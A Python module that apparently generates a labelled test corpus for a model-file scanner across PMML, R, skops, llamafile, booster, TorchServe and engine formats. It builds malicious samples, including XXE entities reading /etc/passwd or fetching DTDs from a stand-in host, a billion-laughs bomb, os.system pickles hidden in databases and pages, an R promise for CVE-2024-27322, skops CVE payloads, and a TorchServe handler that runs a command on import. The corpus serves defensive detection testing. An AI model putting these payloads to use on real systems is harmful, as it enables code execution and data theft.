"""Everything else: PMML, R, skops, llamafile, TorchServe, boosters, msgpack."""

import json
import struct

from . import executables
from .archives import HONEST
from .arrays import npy
from .deflate import gzip_member
from .gguf import INJECTIONS, STRING, U32, Writer
from .objects import packed
from .registry import CLEAN, COMMAND, HOST, INCOMPLETE, MALICIOUS, SUSPICIOUS
from .texts import pretty
from .torch import EVIL, WHAT, small_state_dict, torch_zip
from .opcodes import call, dumps
from .zipwriter import DEFLATED, Member, zip_file


def add_samples(corpus):
    pmml(corpus)
    rds(corpus)
    skops(corpus)
    llamafile(corpus)
    boosters(corpus)
    servers(corpus)
    engines(corpus)


PMML_BODY = """<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4">
  <Header copyright="weighin"/>
  <DataDictionary numberOfFields="1"><DataField name="x" optype="continuous" dataType="double"/></DataDictionary>
  <RegressionModel functionName="regression"><RegressionTable intercept="0.5"><NumericPredictor name="x" coefficient="2"/></RegressionTable>%s</RegressionModel>
</PMML>
"""


def pmml(corpus):
    def add(name, verdict, data, what, why):
        corpus.add(f"pmml/{name}", verdict, '<?xml version="1.0" encoding="UTF-8"?>\n' + data, what, why)

    add("regression.pmml", CLEAN, PMML_BODY % "", "a linear regression", "the ordinary file")
    add("xxe-file.pmml", MALICIOUS, '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n' + PMML_BODY % "<Extension>&x;</Extension>", "an external entity of /etc/passwd", "a reader that resolves it leaks the file")
    add("document-type.pmml", CLEAN, '<!DOCTYPE PMML PUBLIC "-//DMG//DTD PMML 2.0//EN" "pmml-2-0.dtd">\n' + PMML_BODY % "", "a published document type", "it names the language")
    add("extension-text.pmml", MALICIOUS, PMML_BODY % f"<Extension>os.system('{COMMAND}')</Extension>", "an extension whose text is a call", "an engine may evaluate it")
    add("document-type-address.pmml", CLEAN, '<!DOCTYPE PMML PUBLIC "PMML 2.0" "http://www.dmg.org/v2-0/pmml_v2_0.dtd">\n' + PMML_BODY % "", "the document type at its publisher's address", "as PMML 2 was written")
    add("xxe-public.pmml", MALICIOUS, f'<!DOCTYPE PMML PUBLIC "-//DMG//DTD PMML 2.0//EN" "http://{HOST}/x.dtd">\n' + PMML_BODY % "", "an external DTD behind a public name", "the loader requests the address all the same")
    add("xxe-publisher.pmml", MALICIOUS, f'<!DOCTYPE PMML PUBLIC "-//W3C//DTD X//EN" "http://www.w3.org.{HOST}/x.dtd">\n' + PMML_BODY % "", "an address that begins like a publisher's", "its host is another")
    add("xxe-url.pmml", MALICIOUS, f'<!DOCTYPE PMML SYSTEM "http://{HOST}/x.dtd">\n' + PMML_BODY % "", "an external DTD", "a request from the loader")
    add("xxe-parameter.pmml", MALICIOUS, f'<!DOCTYPE PMML [<!ENTITY % x SYSTEM "http://{HOST}/x.dtd"> %x;]>\n' + PMML_BODY % "", "an external parameter entity", "the same")
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    add("laughs.pmml", SUSPICIOUS, f'<!DOCTYPE PMML [<!ENTITY l0 "ha">{laughs}]>\n' + PMML_BODY % "<Extension>&l9;</Extension>", "nine levels of entities, ten each", "expands to gigabytes")
    add("xinclude.pmml", MALICIOUS, PMML_BODY % '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>', "an XInclude of /etc/passwd", "a reader that resolves it leaks the file")
    corpus.add("pmml/openvino-device.xml", CLEAN, '<?xml version="1.0"?>\n<net name="weighin" version="11">\n<layers><layer id="0" name="x" type="Parameter" version="opset1"><data implementation="fp16" library="CPU"/></layer></layers>\n<edges/>\n</net>\n', "a device named as a library", "no file is meant")
    corpus.add("other/ctranslate2/model.bin", CLEAN, struct.pack("<IH", 6, 12) + b"WhisperSpec\0" + struct.pack("<II", 3, 0), "the beginning of a CTranslate2 model", "as faster-whisper ships it")
    evil = dumps(call("os.system", COMMAND))
    corpus.add("other/table/study.db", MALICIOUS, b"SQLite format 3\0" + bytes(200) + evil + bytes(100), f"a database with a pickle in it: {WHAT}", "programs that read it load the pickle")
    corpus.add("other/table/study-honest.db", CLEAN, b"SQLite format 3\0" + bytes(200) + dumps(call("collections.OrderedDict")) + bytes(100), "a database with a harmless pickle in it", "programs keep their values so")
    corpus.add("other/table/honest.db", CLEAN, b"SQLite format 3\0" + bytes(200) + b"weighin" + bytes(100), "a database", "the ordinary file")
    corpus.add("other/table/train.tfrecord", MALICIOUS, struct.pack("<QI", len(evil), 0) + evil + bytes(4), "a record with a pickle in it", "records hold examples")
    corpus.add("other/table/weights.onnx_data", MALICIOUS, bytes(64) + evil + bytes(64), "tensors with a pickle between them", "raw tensors are numbers")
    corpus.add("other/page.html", MALICIOUS, b"<html><body>a page</body></html>\n" + evil, "a page with a pickle behind it", "pages have none")
    corpus.add("bson/pickle.bson", MALICIOUS, bson_binary(evil), "a document with a pickle in a binary field", "documents of models hold numbers")
    corpus.add("pmml/openvino.xml", CLEAN, '<?xml version="1.0"?>\n<net name="weighin" version="11">\n<layers><layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,2" element_type="f32"/></layer></layers>\n<edges/>\n</net>\n', "an OpenVINO IR", "the ordinary file")


def bson_binary(data):
    body = b"\x05data\0" + struct.pack("<IB", len(data), 0) + data + b"\0"
    return struct.pack("<I", len(body) + 4) + body


def rds(corpus):
    def add(name, verdict, data, what, why):
        corpus.add(f"rds/{name}.rds", verdict, data, what, why)

    def number(value):
        return struct.pack(">i", value)

    def char(text):
        return number(0x00040009) + number(len(text)) + text.encode()

    def symbol(text):
        return number(1) + char(text)

    def strings(*texts):
        return number(16) + number(len(texts)) + b"".join(map(char, texts))

    def doubles(*values, attributes=False):
        return number(0x20E if attributes else 14) + number(len(values)) + struct.pack(f">{len(values)}d", *values)

    head = b"X\n" + struct.pack(">3i", 2, 0x00040300, 0x00020300)
    nil, unbound = number(0xFE), number(0xFC)

    def call(function, *args):
        """A LANGSXP: function symbol, then a pairlist of arguments."""
        return number(6) + symbol(function) + b"".join(number(2) + arg for arg in args) + nil

    honest = head + number(0x213) + number(2) + doubles(0.5, 0.25) + strings("a", "b") + number(0x402) + symbol("names") + strings("coef", "terms") + nil
    add("list", CLEAN, gzip_member(honest), "a named list of numbers and strings, gzip", "what saveRDS writes")
    add("list-plain", CLEAN, honest, "the same, not packed", "compress = FALSE")
    formula = head + number(0x213) + number(1) + call("~", symbol("y"), symbol("x")) + number(0x402) + symbol("names") + strings("formula") + nil
    add("formula", CLEAN, gzip_member(formula), "a list with the formula y ~ x", "linear models hold formulas, which are calls that nothing evaluates")
    promise = head + number(5) + unbound + call("system", strings(COMMAND))
    add("promise", MALICIOUS, gzip_member(promise), f"a promise of system({COMMAND!r}), gzip", "CVE-2024-27322: R evaluates it on first use")
    add("promise-plain", MALICIOUS, promise, "the same, not packed", "CVE-2024-27322")
    add("promise-in-list", MALICIOUS, gzip_member(head + number(0x13) + number(2) + doubles(0.5) + promise[len(head):]), "a promise inside a list", "CVE-2024-27322")
    add("truncated", INCOMPLETE, gzip_member(honest)[:40], "cut inside the stream", "a partial download")


def skops(corpus):
    def add(name, verdict, data, what, why):
        corpus.add(f"skops/{name}.skops", verdict, data, what, why)

    ids = iter(range(1, 1000))

    def item(name, module, loader, **extra):
        return {"__class__": name, "__module__": module, "__loader__": loader, **extra, "__id__": next(ids)}

    def text(value):
        return item("str", "builtins", "JsonNode", content=json.dumps(value), is_json=True)

    def dictionary(**content):
        return item("dict", "builtins", "DictNode", content=content, key_types=item("list", "builtins", "ListNode", content=[item("str", "builtins", "TypeNode") for _ in content]))

    def archive(root, files=()):
        schema = {**root, "protocol": 2, "_skops_version": "0.10.0"}
        return zip_file([*files, Member("schema.json", json.dumps(schema, indent=2).encode())])

    weights = Member("1.npy", npy("'<f8'", "(2,)", packed([0.5, 0.25], "f8")))
    array = item("ndarray", "numpy", "NdArrayNode", type="numpy", file="1.npy")
    model = item("LogisticRegression", "sklearn.linear_model._logistic", "ObjectNode", content=dictionary(C=text(1.0), coef_=array, _sklearn_version=text("1.5.2")))
    add("model", CLEAN, archive(model, [weights]), "a logistic regression", "the ordinary file")
    add("function-ufunc", CLEAN, archive(dictionary(f=item("add", "numpy", "FunctionNode"))), "numpy.add as a function", "a trusted function")
    add("function-system", MALICIOUS, archive(dictionary(f=item("system", "os", "FunctionNode"))), "os.system as a function", "a type outside the trusted list")
    add("object-popen", MALICIOUS, archive(item("Popen", "subprocess", "ObjectNode", content=dictionary(args=text(COMMAND)))), "subprocess.Popen as an object", "a type outside the trusted list")
    add("type-unknown", SUSPICIOUS, archive(item("Net", "weighin_example.models", "ObjectNode", content=dictionary(width=text(3)))), "an object of an unknown package", "the user is asked to trust it")
    add("operator-func-mismatch", MALICIOUS, archive(item("call", "builtins", "OperatorFuncNode", attrs=item("tuple", "builtins", "TupleNode", content=[text("x")]))), "an OperatorFuncNode that claims another module", "CVE-2025-54412: the loader takes the class from operator")
    add("method-mismatch", MALICIOUS, archive(item("str", "builtins", "MethodNode", content={"func": "__globals__", "obj": model}), [weights]), "a MethodNode whose class is not its object's, with a dunder name", "CVE-2025-54413: reaches attributes of another object")
    arguments = item("tuple", "builtins", "TupleNode", content=[text(COMMAND)])
    add("constructor-from-reduce", SUSPICIOUS, archive(item("Net", "weighin_payload", "ConstructorFromReduceNode", content=arguments)), "a constructor of an unknown package, called with a string", "the class is called")
    add("loss-node", MALICIOUS, archive(item("system", "os", "LossNode", __reduce__={"args": arguments}, content=dictionary())), "a LossNode of module os", "LossNode imported its module unchecked")
    add("pickle-named", MALICIOUS, EVIL, f"a bare pickle named .skops: {WHAT}", "CVE-2025-54886: a model card falls back to joblib")
    add("extra-pickle", MALICIOUS, archive(model, [weights, Member("notes", EVIL)]), f"a member that is a pickle: {WHAT}", "every member is judged by its content")
    add("missing-file", CLEAN, archive(model), "a model whose array file is missing", "a damaged file")
    add("schema-broken", INCOMPLETE, zip_file([Member("schema.json", b'{"__class__": "dict", ')]), "a schema.json that is cut", "a damaged file")


def llamafile(corpus):
    model = Writer(3).file([("general.architecture", STRING, "llama"), ("general.file_type", U32, 0)])
    evil = Writer(3).file([("general.architecture", STRING, "llama"), ("tokenizer.chat_template", STRING, INJECTIONS[1][1])])
    members = [Member("model.gguf", model, align=32), Member(".args", b"-m\nmodel.gguf\n")]
    script = b"MZqFpD='\n" + bytes(64) + b"'\n#!/bin/sh\no=$(command -v \"$0\")\nexec \"$o\" \"$@\"\nexit 1\n"
    corpus.add("llamafile/model.llamafile", SUSPICIOUS, zip_file(members, prefix=script), "a portable executable's shell header, an archive with a GGUF and .args", "a program, not a model: said so")
    corpus.add("llamafile/elf.llamafile", SUSPICIOUS, zip_file(members, prefix=executables.elf()), "an ELF executable with an archive behind it", "the same")
    corpus.add("llamafile/template-evil.llamafile", MALICIOUS, zip_file([Member("model.gguf", evil, align=32)], prefix=script), "a llamafile whose GGUF has an evil template", "the archive behind the program is read")


def boosters(corpus):
    def add(name, verdict, data, what, why):
        corpus.add(f"booster/{name}", verdict, data, what, why)

    tree = {"base_weights": [0.0], "categories": [], "left_children": [-1], "right_children": [-1], "parents": [2147483647], "split_indices": [0], "split_conditions": [0.1], "tree_param": {"num_nodes": "1", "num_feature": "2"}, "id": 0}
    xgboost = {"learner": {"attributes": {}, "feature_names": ["os", "system"], "gradient_booster": {"model": {"gbtree_model_param": {"num_trees": "1"}, "trees": [tree], "tree_info": [0]}, "name": "gbtree"},
                           "learner_model_param": {"base_score": "5E-1", "num_class": "0", "num_feature": "2"}, "objective": {"name": "reg:squarederror"}}, "version": [2, 1, 0]}
    add("xgboost.json", CLEAN, json.dumps(xgboost), "an XGBoost model of one leaf", "the ordinary file")
    add("xgboost-nodes.json", SUSPICIOUS, json.dumps(xgboost).replace('"num_nodes": "1"', '"num_nodes": "4294967295"'), "a tree that says it has four billion nodes", "a reader that allocates by it")
    add("xgboost-trees.json", SUSPICIOUS, json.dumps(xgboost).replace('"num_trees": "1"', '"num_trees": "1000000"'), "a model that says it has a million trees", "the same")
    add("lightgbm.txt", CLEAN, "tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=1\nobjective=regression\nfeature_names=a b\nfeature_infos=[0:1] [0:1]\n\nTree=0\nnum_leaves=1\nleaf_value=0.5\n\nend of trees\n\nparameters:\nend of parameters\n", "a LightGBM model of one leaf", "the ordinary file")

    def text(value):
        return bytes([0xA0 | len(value)]) + value.encode()

    ndarray = b"\x93" + b"\x91\x02" + text("float32") + b"\xc4\x08" + packed([0.5, 0.25], "f4")
    flax = b"\x81" + text("params") + b"\x81" + text("kernel") + b"\xc7" + bytes([len(ndarray), 1]) + ndarray
    add("flax.msgpack", CLEAN, flax, "Flax parameters of one array", "the ordinary file")
    add("flax-truncated.msgpack", INCOMPLETE, flax[:-6], "Flax parameters, cut", "a partial download")
    add("flax-length-huge.msgpack", SUSPICIOUS, b"\x81" + text("params") + b"\xc6\xff\xff\xff\xff" + b"abcd", "a byte string of 4 GiB", "a length that no file holds")
    add("flax-ext-unknown.msgpack", SUSPICIOUS, b"\x81" + text("params") + b"\xd4\x63\x00", "an extension type 99", "Flax knows 1 to 3")


def servers(corpus):
    def mar(name, verdict, handler, weights, what, why, requirements=None):
        manifest = {"createdOn": "02/01/2024 03:04:05", "runtime": "python", "archiverVersion": "0.11.0",
                    "model": {"modelName": "weighin", "serializedFile": "model.pt", "handler": "handler.py", "modelVersion": "1.0"}}
        members = [Member("MAR-INF/MANIFEST.json", pretty(manifest).encode(), DEFLATED), Member("handler.py", handler.encode(), DEFLATED), Member("model.pt", weights)]
        if requirements:
            members.append(Member("requirements.txt", requirements.encode(), DEFLATED))
        corpus.add(f"torchserve/{name}.mar", verdict, zip_file(members), what, why)

    state, storages = small_state_dict()
    weights = torch_zip(dumps(state, 2), storages)
    honest = "from ts.torch_handler.base_handler import BaseHandler\n\n\nclass Handler(BaseHandler):\n    def postprocess(self, data):\n        return data.argmax(1).tolist()\n"
    mar("honest", CLEAN, honest, weights, "a stock-like handler and a state_dict", "the ordinary file")
    mar("handler-evil", MALICIOUS, f"import os\nos.system({COMMAND!r})\n" + honest, weights, "a handler that runs a command on import", "TorchServe imports it")
    mar("weights-evil", MALICIOUS, honest, torch_zip(EVIL), f"weights that are {WHAT}", "members are read")
    mar("requirements-url", SUSPICIOUS, honest, weights, "a requirement by URL", "installed when the model is loaded", f"https://{HOST}/net-1.0-py3-none-any.whl\n")
    sb3 = [Member("data", pretty({"policy_kwargs": {}, "num_timesteps": 10}).encode()), Member("pytorch_variables.pth", weights), Member("policy.pth", weights), Member("_stable_baselines3_version", b"2.3.2")]
    corpus.add("torchserve/stable-baselines3.zip", CLEAN, zip_file(sb3), "a stable-baselines3 archive", "torch files inside a zip")
    corpus.add("torchserve/paddle.pdparams", CLEAN, HONEST, "a Paddle parameter pickle", "pickles under another name")
    corpus.add("torchserve/paddle-evil.pdparams", MALICIOUS, EVIL, f"{WHAT} named .pdparams", "pickles under another name")


def engines(corpus):
    """What runtimes compile for their own devices, and the archives that nobody can read."""

    def add(name, verdict, data, what, why):
        corpus.add(f"other/{name}", verdict, data, what, why)

    plan = b"ptrt" + struct.pack("<5I", 0, 239, 0, 40, 0) + bytes(range(64))
    add("model.engine", CLEAN, plan + executables.cubin(), "the beginning of a TensorRT engine, with code for a GPU", "every engine holds some: said so, and no more")
    add("plugin.engine", MALICIOUS, plan + executables.elf(), "the same with code for the host", "libraries of plug-ins are loaded when the engine is")
    add("pickle.engine", MALICIOUS, plan + EVIL, f"the same with a pickle behind it: {WHAT}", "a loader of the next stage seeks to it")
    rockchip = bytes(8) + struct.pack("<2Q", 6, 64) + b'{"version": "1.6.0", "target_platform": ["rk3588"], "network_platform": "ONNX"}'
    add("model.rknn", CLEAN, b"RKNN" + bytes(4) + rockchip, "the beginning of an RKNN model", "the ordinary file")
    add("encrypted.rknn", INCOMPLETE, b"CYPTRKNN" + rockchip, "the beginning of an encrypted RKNN model", "nobody can say what is in it")
    add("program.rknn", MALICIOUS, b"RKNN" + bytes(4) + rockchip + executables.elf(), "an RKNN model with code for the host", "no model holds any")
    layers = "3 3\nInput            data             0 1 data 0=4 1=4 2=3\nConvolution      conv             1 1 data conv 0=8 1=3\nSoftmax          prob             1 1 conv prob 0=0\n"
    add("ncnn.param", CLEAN, "7767517\n" + layers, "an ncnn graph of three layers", "the ordinary file")
    add("ncnn.param.bin", CLEAN, struct.pack("<3i", 7767517, 1, 1) + struct.pack("<6i", 0, 0, 1, 0, 0, -233), "the same, binary, of one layer", "what ncnn2mem makes")
    add("pickle.param.bin", MALICIOUS, struct.pack("<9i", 7767517, 1, 1, 0, 0, 1, 0, 0, -233) + EVIL, f"a pickle behind a binary ncnn graph: {WHAT}", "a loader of the next stage seeks to it")
    for name, mark in [("rar5", b"Rar!\x1a\x07\x01\x00"), ("rar4", b"Rar!\x1a\x07\x00")]:
        corpus.add(f"archive/{name}.rar", INCOMPLETE, mark + bytes(range(40)), f"the beginning of a {name.upper()} archive", "there is no free decoder: what is in it has not been examined")
